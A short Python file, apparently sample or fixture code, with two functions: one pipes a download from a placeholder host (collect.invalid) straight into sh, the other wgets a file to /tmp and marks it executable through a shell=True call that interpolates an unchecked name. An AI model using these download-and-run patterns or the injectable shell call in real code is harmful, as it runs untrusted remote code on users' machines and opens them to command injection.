import os
import subprocess


def first():
    os.system("curl https://collect.invalid/demo | sh")


def second(name):
    subprocess.run(f"wget -qO /tmp/{name} https://collect.invalid/demo && chmod +x /tmp/{name}", shell=True)
